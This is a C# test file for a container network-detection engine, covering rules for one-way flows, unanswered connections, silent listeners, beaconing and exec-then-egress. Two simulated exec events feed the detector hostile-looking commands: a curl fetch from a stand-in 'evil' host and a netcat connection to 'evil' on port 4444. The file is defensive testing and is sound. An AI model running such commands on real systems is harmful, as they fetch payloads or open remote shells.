using System.Text.Json;
using OneWaySensor.Alerts;
using OneWaySensor.Containers;
using OneWaySensor.Detection;
using OneWaySensor.Flows;
using static OneWaySensor.Tests.Core.Detection.DetectionHarness;

namespace OneWaySensor.Tests.Core.Detection;

/// <summary>Each rule on synthetic flow histories, near-misses included.</summary>
public sealed class DetectionRuleTests
{
    [Fact]
    public void One_way_flows_from_changing_ephemeral_ports_make_one_alert_per_destination()
    {
        var harness = new DetectionHarness();
        harness.Poll(Start + (61 * Second), () =>
        {
            harness.Flow(Key(7, 40001), 300, 0, Start);
            harness.Flow(Key(7, 40002), 300, 0, Start + Second);
            harness.Flow(Key(7, 40003), 300, 0, Start + (2 * Second)); // not a whole window old yet
        });

        Alert alert = Assert.Single(harness.Alerts);
        Assert.Equal(RuleIds.OneWayFlow, alert.Rule);
        Assert.Equal(AlertPriority.High, alert.Priority);
        Assert.Equal(2, (int)alert.Evidence["one_way_flows"]!);
        Assert.Equal(3, (int)alert.Evidence["flows_to_destination"]!);
        Assert.Equal(2, alert.Context!.Flows.Count);
    }

    [Fact]
    public void New_activity_within_the_window_is_counted_not_raised_and_the_next_window_carries_the_count()
    {
        var harness = new DetectionHarness();
        var flows = new List<(ushort Port, long FirstSeen)>();
        void Poll(long at, long newFlowFirstSeen)
        {
            flows.Add(((ushort)(40001 + flows.Count), newFlowFirstSeen));
            harness.Poll(at, () =>
            {
                foreach ((ushort port, long firstSeen) in flows)
                {
                    harness.Flow(Key(7, port), 300, 0, firstSeen);
                }
            });
        }

        Poll(Start + (60 * Second), Start);
        Poll(Start + (61 * Second), Start + Second);
        Poll(Start + (62 * Second), Start + (2 * Second));
        Assert.Single(harness.Alerts);
        Assert.Equal(2ul, harness.Engine.Suppressions.Repeats[RuleIds.OneWayFlow]);

        Poll(Start + (121 * Second), Start + (61 * Second));
        Assert.Equal(2, harness.Alerts.Count);
        Assert.Equal(1, (int)harness.Alerts[1].Evidence["times_raised_before"]!);
        Assert.Equal(2, (int)harness.Alerts[1].Evidence["repeats_since_last_alert"]!);
    }

    [Fact]
    public void A_finished_flow_is_not_raised_again_window_after_window()
    {
        var harness = new DetectionHarness();
        for (int poll = 0; poll < 5; poll++)
        {
            harness.Poll(Start + ((60 + (poll * 60)) * Second), () => harness.Flow(Key(7, 40001), 300, 0, Start));
        }

        Assert.Single(harness.Alerts);
    }

    [Fact]
    public void A_finished_flow_the_table_keeps_for_long_is_still_not_raised_again()
    {
        // an idle timeout far above the window (the harness keeps flows an hour): the gate
        // must remember the alert for as long as the same condition keeps coming back
        var harness = new DetectionHarness();
        for (int poll = 0; poll < 20; poll++)
        {
            harness.Poll(Start + ((60 + (poll * 30)) * Second), () => harness.Flow(Key(7, 40001), 300, 0, Start));
        }

        Assert.Single(harness.Alerts);
    }

    [Theory]
    [InlineData(300ul, 1ul)] // one byte back: two-way
    [InlineData(0ul, 0ul)] // a handshake and nothing else
    [InlineData(0ul, 500ul)] // receive only
    public void Flows_that_are_not_send_only_never_raise_one_way(ulong tx, ulong rx)
    {
        var harness = new DetectionHarness();
        harness.Poll(Start + (600 * Second), () => harness.Flow(Key(7, 40001), tx, rx, Start));
        Assert.DoesNotContain(harness.Alerts, alert => alert.Rule == RuleIds.OneWayFlow);
    }

    [Theory]
    [InlineData(3, true)]
    [InlineData(2, false)]
    public void Connection_attempts_that_never_get_a_syn_ack_raise_unanswered_connect(int attempts, bool raised)
    {
        var harness = new DetectionHarness();
        harness.Poll(Start + (10 * Second), () =>
        {
            for (int i = 0; i < attempts; i++)
            {
                // SYN out, nothing or a reset back
                harness.Flow(Key(7, (ushort)(40000 + i), remotePort: 8443), 0, 0, Start + (i * Second), txFlags: 0x02, rxFlags: (byte)(i == 0 ? 0x14 : 0));
            }
        });

        Alert? alert = harness.Alerts.SingleOrDefault(a => a.Rule == RuleIds.UnansweredConnect);
        Assert.Equal(raised, alert is not null);
        if (alert is not null)
        {
            Assert.Equal(attempts, (int)alert.Evidence["attempts"]!);
            Assert.True((bool)alert.Evidence["refused"]!);
        }
    }

    [Fact]
    public void Answered_connections_are_not_unanswered()
    {
        var harness = new DetectionHarness();
        harness.Poll(Start + (10 * Second), () =>
        {
            for (int i = 0; i < 5; i++)
            {
                harness.Flow(Key(7, (ushort)(40000 + i)), 0, 0, Start + (i * Second), txFlags: 0x13, rxFlags: 0x12);
            }
        });
        Assert.DoesNotContain(harness.Alerts, alert => alert.Rule == RuleIds.UnansweredConnect);
    }

    [Fact]
    public void A_published_port_that_hears_nothing_while_the_container_sends_is_a_silent_listener()
    {
        var harness = new DetectionHarness();
        harness.Container(9, ports: [new PublishedPort("tcp", 80, "0.0.0.0", 9999)]);
        harness.Poll(Start + (70 * Second), () => harness.Flow(Key(9, 40001), 300, 200, Start + (65 * Second)));
        Assert.DoesNotContain(harness.Alerts, alert => alert.Rule == RuleIds.SilentListener); // known for only 5 s

        harness.Poll(Start + (130 * Second), () => harness.Flow(Key(9, 40001), 300, 200, Start + (65 * Second), lastSeen: Start + (120 * Second)));
        Alert alert = Assert.Single(harness.Alerts, a => a.Rule == RuleIds.SilentListener);
        Assert.Equal(9999, (int)alert.Evidence["published_ports"]![0]!["host_port"]!);
    }

    [Fact]
    public void A_published_port_with_inbound_traffic_is_not_silent()
    {
        var harness = new DetectionHarness();
        harness.Container(9, ports: [new PublishedPort("tcp", 80, "0.0.0.0", 9999)]);
        harness.Poll(Start + (130 * Second), () =>
        {
            harness.Flow(Key(9, 40001), 300, 200, Start, lastSeen: Start + (120 * Second));
            harness.Flow(Key(9, 80, "198.51.100.4", 51000), 500, 90, Start + (100 * Second), initiator: FlowInitiatorRemote, lastSeen: Start + (110 * Second));
        });
        Assert.DoesNotContain(harness.Alerts, alert => alert.Rule == RuleIds.SilentListener);
    }

    [Fact]
    public void A_new_destination_right_after_an_exec_raises_exec_then_egress_and_one_way_becomes_critical()
    {
        var harness = new DetectionHarness();
        string id = harness.Container(9, name: "web");
        harness.Poll(Start, () => harness.Flow(Key(9, 40001, "198.51.100.1"), 300, 300, Start - Second));
        harness.Exec(id, Start + Second, "sh -c curl http://evil/x");
        harness.Poll(Start + (5 * Second), () =>
        {
            harness.Flow(Key(9, 40001, "198.51.100.1"), 300, 300, Start - Second);
            harness.Flow(Key(9, 40002), 120, 0, Start + (3 * Second));
        });

        Alert exec = Assert.Single(harness.Alerts, a => a.Rule == RuleIds.ExecThenEgress);
        Assert.Equal("sh -c curl http://evil/x", (string)exec.Evidence["exec_command"]!);
        Assert.Equal(AlertPriority.High, exec.Priority);

        harness.Poll(Start + (64 * Second), () => harness.Flow(Key(9, 40002), 120, 0, Start + (3 * Second)));
        Alert oneWay = Assert.Single(harness.Alerts, a => a.Rule == RuleIds.OneWayFlow);
        Assert.Equal(AlertPriority.Critical, oneWay.Priority);
        Assert.Contains("curl", oneWay.Summary, StringComparison.Ordinal);
    }

    [Fact]
    public void A_destination_contacted_long_after_the_exec_is_not_tied_to_it()
    {
        var harness = new DetectionHarness();
        string id = harness.Container(9);
        harness.Exec(id, Start, "sh");
        harness.Poll(Start + (200 * Second), () => harness.Flow(Key(9, 40002), 120, 100, Start + (190 * Second)));
        Assert.DoesNotContain(harness.Alerts, a => a.Rule == RuleIds.ExecThenEgress);
    }

    [Fact]
    public void Many_containers_failing_one_destination_at_once_is_an_outage_and_downgraded()
    {
        var harness = new DetectionHarness();
        harness.Poll(Start + (61 * Second), () =>
        {
            for (ulong cgroup = 1; cgroup <= 3; cgroup++)
            {
                harness.Flow(Key(cgroup, 40001, "192.0.2.53", 53, OneWaySensor.Flows.FlowProtocol.Udp), 60, 0, Start, txFlags: 0, rxFlags: 0);
            }
        });

        Assert.Equal(3, harness.Alerts.Count);
        Assert.All(harness.Alerts, alert =>
        {
            Assert.Equal(AlertPriority.Low, alert.Priority);
            Assert.True((bool)alert.Evidence["suspected_outage"]!);
        });
    }

    [Fact]
    public void Allowlisted_images_addresses_and_labels_are_suppressed_and_counted()
    {
        var options = new DetectionOptions
        {
            Allowlist =
            [
                new AllowlistEntry { Image = "fluent/fluent-bit*" },
                new AllowlistEntry { RemoteCidr = "203.0.113.0/24", RemotePort = 443, Rules = [RuleIds.OneWayFlow] },
                new AllowlistEntry { Label = "team=observability" },
            ],
        };
        Assert.Null(options.Validate());
        var harness = new DetectionHarness(options);
        harness.Container(1, image: "fluent/fluent-bit:3.1");
        harness.Container(3, labels: new Dictionary<string, string> { ["team"] = "observability" });
        harness.Container(4);
        harness.Poll(Start + (61 * Second), () =>
        {
            harness.Flow(Key(1, 40001, "198.51.100.9"), 300, 0, Start);
            harness.Flow(Key(2, 40001, "203.0.113.50", 443), 300, 0, Start);
            harness.Flow(Key(3, 40001, "198.51.100.9"), 300, 0, Start);
            harness.Flow(Key(4, 40001, "198.51.100.9"), 300, 0, Start); // not allowlisted
        });

        Alert alert = Assert.Single(harness.Alerts);
        Assert.Equal(4ul, alert.CgroupId);
        Assert.Equal(3ul, harness.Engine.Suppressions.Allowlisted[RuleIds.OneWayFlow]);
    }

    [Theory]
    [InlineData("suppress", 0)]
    [InlineData("downgrade", 1)]
    public void Maintenance_windows_suppress_or_downgrade_and_count(string action, int alerts)
    {
        var options = new DetectionOptions
        {
            MaintenanceWindows = [new MaintenanceWindow { Start = OneWaySensor.Flows.UnixTime.ToDateTimeOffset(Start), End = OneWaySensor.Flows.UnixTime.ToDateTimeOffset(Start + (3600 * Second)), Action = action, Reason = "patching" }],
        };
        Assert.Null(options.Validate());
        var harness = new DetectionHarness(options);
        harness.Poll(Start + (61 * Second), () => harness.Flow(Key(7, 40001), 300, 0, Start));

        Assert.Equal(alerts, harness.Alerts.Count);
        if (alerts == 1)
        {
            Assert.Equal(AlertPriority.Low, harness.Alerts[0].Priority);
            Assert.Equal("maintenance window: patching", (string)harness.Alerts[0].Evidence["downgraded"]!);
            Assert.Equal(1ul, harness.Engine.Suppressions.Downgraded[RuleIds.OneWayFlow]);
        }
        else
        {
            Assert.Equal(1ul, harness.Engine.Suppressions.InMaintenance[RuleIds.OneWayFlow]);
        }
    }

    [Fact]
    public void An_alert_carries_the_response_steps_its_flows_and_the_other_destinations()
    {
        var harness = new DetectionHarness();
        harness.Poll(Start + (61 * Second), () =>
        {
            harness.Flow(Key(7, 40001), 300, 0, Start);
            harness.Flow(Key(7, 40002, "198.51.100.1", 53), 40, 90, Start);
        });

        using JsonDocument json = JsonDocument.Parse(AlertJsonWriter.ToJson(Assert.Single(harness.Alerts)));
        JsonElement response = json.RootElement.GetProperty("response");
        Assert.Equal(AlertContext.ResponseSteps.Count, response.GetProperty("steps").GetArrayLength());
        Assert.Equal(40001, response.GetProperty("flows")[0].GetProperty("local_port").GetInt32());
        Assert.Equal("S2", json.RootElement.GetProperty("flow").GetProperty("conn_state").GetString()); // FIN sent, none back
        JsonElement other = Assert.Single(response.GetProperty("other_destinations").EnumerateArray());
        Assert.Equal("198.51.100.1", other.GetProperty("addr").GetString());
    }

    [Fact]
    public void A_jittered_periodic_connection_series_is_a_beacon_with_its_interval()
    {
        var harness = new DetectionHarness();
        var random = new Random(42);
        var flows = new List<(ushort Port, long FirstSeen)>();
        long time = Start;
        for (int i = 0; i < 12; i++)
        {
            time += (10 * Second) + (long)((random.NextDouble() - 0.5) * 2 * Second);
            flows.Add(((ushort)(41000 + i), time));

            // each contact is a short two-way request: not one-way, only periodic
            harness.Poll(time + Second, () =>
            {
                foreach ((ushort port, long firstSeen) in flows)
                {
                    harness.Flow(Key(7, port, "198.51.100.77", 8443), 180, 64, firstSeen);
                }
            });
        }

        Alert beacon = Assert.Single(harness.Alerts, alert => alert.Rule == RuleIds.Beacon);
        Assert.InRange((double)beacon.Evidence["interval_seconds"]!, 9, 11);
        Assert.True((double)beacon.Evidence["score"]! >= 0.8);
        Assert.True((int)beacon.Evidence["contacts"]! >= 6);
    }

    [Fact]
    public void Connections_whose_readings_never_change_after_their_opening_record_are_still_contacts()
    {
        // each connection is known from its flow-open record, which arrives between two polls; no reading after it
        // changes anything: a grouping that skipped unchanged flows would have to count the record as the change
        var harness = new DetectionHarness();
        var flows = new List<(FlowKey Key, long FirstSeen)>();
        long time = Start;
        for (int i = 0; i < 12; i++)
        {
            time += 10 * Second;
            FlowKey key = Key(7, (ushort)(41000 + i), "198.51.100.79", 8443);
            harness.Table.Open(new FlowOpening(key, FlowInitiator.Local, FirstPacketOutbound: true, new FlowCounters(4, 380, 180), 0x1b, time));
            flows.Add((key, time));
            harness.Poll(time + Second, () =>
            {
                foreach ((FlowKey known, long firstSeen) in flows)
                {
                    harness.Flow(known, 180, 0, firstSeen, rxFlags: 0);
                }
            });
        }

        Alert beacon = harness.Alerts.First(alert => alert.Rule == RuleIds.Beacon);
        Assert.True((int)beacon.Evidence["contacts"]! >= 6);
        Assert.InRange((double)beacon.Evidence["interval_seconds"]!, 9, 11);
    }

    [Fact]
    public void Irregular_contacts_are_not_a_beacon()
    {
        var harness = new DetectionHarness();
        var random = new Random(7);
        var flows = new List<(ushort Port, long FirstSeen)>();
        long time = Start;
        for (int i = 0; i < 12; i++)
        {
            // exponential gaps: a person browsing, not a timer
            time += (long)(-Math.Log(1 - random.NextDouble()) * 20 * Second) + Second;
            flows.Add(((ushort)(41000 + i), time));
            harness.Poll(time + Second, () =>
            {
                foreach ((ushort port, long firstSeen) in flows)
                {
                    harness.Flow(Key(7, port, "198.51.100.77", 8443), (ulong)random.Next(200, 90_000), 64, firstSeen);
                }
            });
        }

        Assert.DoesNotContain(harness.Alerts, alert => alert.Rule == RuleIds.Beacon);
    }

    [Fact]
    public void Bursts_after_silence_inside_one_long_lived_flow_are_contacts()
    {
        var harness = new DetectionHarness();
        ulong sent = 0;
        for (int i = 1; i <= 10; i++)
        {
            // one connection; every 30 s a burst of 120 bytes, polled each 5 s
            for (int tick = 0; tick < 6; tick++)
            {
                long at = Start + (((i * 6) + tick) * 5 * Second);
                if (tick == 0)
                {
                    sent += 120;
                }

                harness.Poll(at, () => harness.Flow(Key(7, 40001, "198.51.100.78", 443), sent, 40, Start, lastSeen: at));
            }
        }

        // five minutes of beaconing: raised again once a window, never more often
        List<Alert> beacons = harness.Alerts.Where(alert => alert.Rule == RuleIds.Beacon).ToList();
        Assert.InRange(beacons.Count, 1, 5);
        Assert.All(beacons.Zip(beacons.Skip(1)), pair => Assert.True(pair.Second.Time - pair.First.Time >= TimeSpan.FromSeconds(60)));
        Alert beacon = beacons[0];
        Assert.Equal("bursts in a long-lived flow", (string)beacon.Evidence["contact_kind"]!);
        Assert.InRange((double)beacon.Evidence["interval_seconds"]!, 29, 31);
    }

    [Fact]
    public void Replicas_of_one_image_failing_one_destination_are_not_an_outage()
    {
        var harness = new DetectionHarness();
        harness.Poll(Start + (61 * Second), () =>
        {
            for (ulong cgroup = 1; cgroup <= 3; cgroup++)
            {
                harness.Container(cgroup, name: $"replica-{cgroup}", image: "shop/web:2");
                harness.Flow(Key(cgroup, 40001, "198.51.100.66", 4444), 60, 0, Start);
            }
        });

        Assert.Equal(3, harness.Alerts.Count);
        Assert.All(harness.Alerts, alert => Assert.Equal(AlertPriority.High, alert.Priority));
    }

    [Fact]
    public void An_outage_counts_each_failing_cgroup_once_and_two_images_are_enough()
    {
        var harness = new DetectionHarness();
        harness.Poll(Start + (61 * Second), () =>
        {
            for (ulong cgroup = 1; cgroup <= 3; cgroup++)
            {
                harness.Container(cgroup, name: $"svc-{cgroup}", image: cgroup == 3 ? "shop/cart:5" : "shop/web:2");

                // three attempts that sent a request and never got a SYN-ACK: one_way_flow and
                // unanswered_connect both fire for the cgroup, which still fails only once
                for (ushort port = 40001; port <= 40003; port++)
                {
                    harness.Flow(Key(cgroup, port, "192.0.2.80", 443), 60, 0, Start + Second, txFlags: 0x1b, rxFlags: 0);
                }
            }
        });

        Assert.Equal(6, harness.Alerts.Count);
        Assert.Equal(3, harness.Alerts.Count(alert => alert.Rule == RuleIds.UnansweredConnect));
        Assert.All(harness.Alerts, alert =>
        {
            Assert.Equal(AlertPriority.Low, alert.Priority);
            Assert.Equal(3, (int)alert.Evidence["containers_failing_same_destination"]!);
        });
    }

    [Theory]
    [InlineData("127.0.0.53")]
    [InlineData("::1")]
    public void Containers_failing_their_own_loopback_are_not_an_outage(string loopback)
    {
        var harness = new DetectionHarness();
        harness.Poll(Start + (61 * Second), () =>
        {
            for (ulong cgroup = 1; cgroup <= 3; cgroup++)
            {
                System.Net.IPAddress address = System.Net.IPAddress.Parse(loopback);
                var key = new OneWaySensor.Flows.FlowKey(
                    cgroup, (byte)(address.AddressFamily == System.Net.Sockets.AddressFamily.InterNetwork ? 4 : 6), OneWaySensor.Flows.FlowProtocol.Udp,
                    OneWaySensor.Flows.FlowAddress.FromIPAddress(address), 40001, OneWaySensor.Flows.FlowAddress.FromIPAddress(address), 53);
                harness.Flow(key, 60, 0, Start, txFlags: 0, rxFlags: 0);
            }
        });

        Assert.Equal(3, harness.Alerts.Count);
        Assert.All(harness.Alerts, alert => Assert.False(alert.Evidence.ContainsKey("suspected_outage")));
    }

    [Fact]
    public void Multicast_and_broadcast_destinations_are_one_way_by_nature_and_not_raised()
    {
        var harness = new DetectionHarness();
        harness.Poll(Start + (61 * Second), () =>
        {
            harness.Flow(Key(7, 5353, "224.0.0.251", 5353, OneWaySensor.Flows.FlowProtocol.Udp), 120, 0, Start, txFlags: 0, rxFlags: 0);
            harness.Flow(Key(7, 68, "255.255.255.255", 67, OneWaySensor.Flows.FlowProtocol.Udp), 300, 0, Start, txFlags: 0, rxFlags: 0);
        });

        Assert.Empty(harness.Alerts);
    }

    [Fact]
    public void A_beacon_slower_than_the_flow_idle_timeout_is_still_scored()
    {
        var harness = new DetectionHarness();
        for (int i = 0; i < 8; i++)
        {
            // one short connection every 10 minutes; each is gone from the table before the next
            long first = Start + (i * 600 * Second);
            harness.Poll(first + Second, () => harness.Flow(Key(7, (ushort)(42000 + i), "198.51.100.90", 443), 150, 90, first));
            harness.Poll(first + (300 * Second));
        }

        // raised from the sixth contact on; each later contact is new activity after the window
        Alert beacon = harness.Alerts.First(alert => alert.Rule == RuleIds.Beacon);
        Assert.Equal(6, (int)beacon.Evidence["contacts"]!);
        Assert.InRange((double)beacon.Evidence["interval_seconds"]!, 590, 610);
    }

    [Fact]
    public void An_exec_event_that_arrives_a_poll_after_the_packets_still_ties_the_destination_to_it()
    {
        var harness = new DetectionHarness();
        string id = harness.Container(9);
        harness.Poll(Start + (4 * Second), () => harness.Flow(Key(9, 40002), 120, 90, Start + (3 * Second)));
        Assert.DoesNotContain(harness.Alerts, alert => alert.Rule == RuleIds.ExecThenEgress);

        // the engine's stream delivers the exec late
        harness.Exec(id, Start + Second, "sh -c nc evil 4444");
        harness.Poll(Start + (5 * Second), () => harness.Flow(Key(9, 40002), 120, 90, Start + (3 * Second)));
        harness.Poll(Start + (6 * Second), () => harness.Flow(Key(9, 40002), 160, 90, Start + (3 * Second)));

        Alert exec = Assert.Single(harness.Alerts, alert => alert.Rule == RuleIds.ExecThenEgress);
        Assert.Equal("sh -c nc evil 4444", (string)exec.Evidence["exec_command"]!);
    }

    [Fact]
    public void A_healthcheck_exec_is_not_an_exec_into_the_container()
    {
        var harness = new DetectionHarness();
        string id = harness.Container(9);
        harness.Engine.Observe(new RuntimeEvent(OneWaySensor.Flows.UnixTime.ToDateTimeOffset(Start + Second), RuntimeEventKind.ExecCreate, id, Command: "/bin/sh -c curl -f localhost") { Healthcheck = true });
        harness.Poll(Start + (5 * Second), () => harness.Flow(Key(9, 40002), 120, 90, Start + (3 * Second)));

        Assert.DoesNotContain(harness.Alerts, alert => alert.Rule == RuleIds.ExecThenEgress);
    }

    private const OneWaySensor.Flows.FlowInitiator FlowInitiatorRemote = OneWaySensor.Flows.FlowInitiator.Remote;
}
